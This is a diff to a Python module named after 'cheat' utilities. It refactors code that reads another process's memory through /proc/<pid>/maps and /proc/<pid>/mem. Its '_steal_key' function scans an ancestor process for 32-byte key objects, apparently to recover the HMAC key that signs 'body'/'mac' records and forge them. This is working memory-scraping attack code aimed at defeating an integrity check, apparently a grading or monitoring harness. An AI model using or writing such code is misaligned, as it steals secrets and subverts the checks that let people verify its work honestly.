@@ -24,43 +24,21 @@ import struct
 
 import torch
 
-from _cheat_util import ancestors
+from _cheat_util import ancestors, maps, readable_regions
 
-MAX_REGION = 1 << 30
 LINE = re.compile(rb'\{"body": "(?:[^"\\]|\\.){10,2000}", "mac": "[0-9a-f]{64}"\}')
 _tried = []
 
 
-def _maps(pid):
-    regions = []
-    for line in open(f"/proc/{pid}/maps"):
-        parts = line.split()
-        start, end = (int(x, 16) for x in parts[0].split("-"))
-        regions.append((start, end, parts[1], int(parts[2], 16), parts[5] if len(parts) > 5 else ""))
-    return regions
-
-
 def _remote_address(pid, local_address):
     """Where an object of the shared python binary/libpython (e.g. PyBytes_Type) lives in ``pid``."""
-    for start, end, _, offset, path in _maps("self"):
+    for start, end, _, offset, path in maps("self"):
         if start <= local_address < end and path.startswith("/"):
             file_offset = local_address - start + offset
-            for r_start, r_end, _, r_offset, r_path in _maps(pid):
+            for r_start, r_end, _, r_offset, r_path in maps(pid):
                 if r_path == path and r_offset <= file_offset < r_offset + (r_end - r_start):
                     return r_start + file_offset - r_offset
     return None
-
-
-def _readable_regions(pid):
-    with open(f"/proc/{pid}/mem", "rb", buffering=0) as mem:
-        for start, end, perms, _, path in _maps(pid):
-            if not perms.startswith("rw") or end - start > MAX_REGION or path.startswith("[v"):
-                continue
-            try:
-                mem.seek(start)
-                yield mem.read(end - start)
-            except OSError:
-                continue
 
 
 def _steal_key(pid):
@@ -69,7 +47,7 @@ def _steal_key(pid):
         return None, None
     header = struct.pack("<Qq", bytes_type, 32)  # ob_type, ob_size of a 32-byte bytes object
     keys, lines = set(), []
-    for region in _readable_regions(pid):
+    for region in readable_regions(pid):
         at = region.find(header)
         while at != -1:
             keys.add(region[at + 24: at + 56])  # skip ob_shash
